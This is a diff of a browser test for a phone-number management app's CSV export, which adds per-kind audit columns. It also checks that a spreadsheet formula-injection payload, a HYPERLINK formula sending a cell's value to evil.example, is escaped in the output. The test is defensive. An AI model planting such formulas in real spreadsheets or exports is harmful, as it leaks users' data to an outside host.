@@ -192,8 +192,24 @@ test.describe('owned numbers', () => {
     const { name, text } = await downloadText(page, () => page.getByRole('button', { name: 'Export CSV' }).click())
     expect(name).toMatch(/^switchboard-numbers-all-webhook-invalid-url-\d{4}-\d{2}-\d{2}\.csv$/)
     const rows = parseCsv(text)
-    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', 'Audit', 'Messages', 'Last activity (UTC)'])
+    // The audit is one cell per kind of finding (docs/architecture.md, Tables), each headed by its kind.
+    const kinds = [
+      'webhook: Missing',
+      'webhook: Invalid URL',
+      'webhook: Not HTTPS',
+      'webhook: Private host',
+      'webhook: Outlier',
+      'dlr: Missing',
+      'dlr: Invalid URL',
+      'dlr: Not HTTPS',
+      'dlr: Private host',
+      'dlr: Same as webhook',
+      'dlr: Outlier',
+      'number: Listed twice',
+    ].map((k) => `Audit: ${k}`)
+    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', ...kinds, 'Messages', 'Last activity (UTC)'])
     expect(rows.slice(1).map((r) => r[0])).toEqual(onScreen)
+    for (const r of rows.slice(1)) expect(r[rows[0]!.indexOf('Audit: webhook: Invalid URL')]).toBe('Problem')
     const formula = rows.find((r) => r[3]?.includes('HYPERLINK'))
     expect(formula?.[3]).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Click")')
     expect(text.startsWith('\uFEFF')).toBe(true)
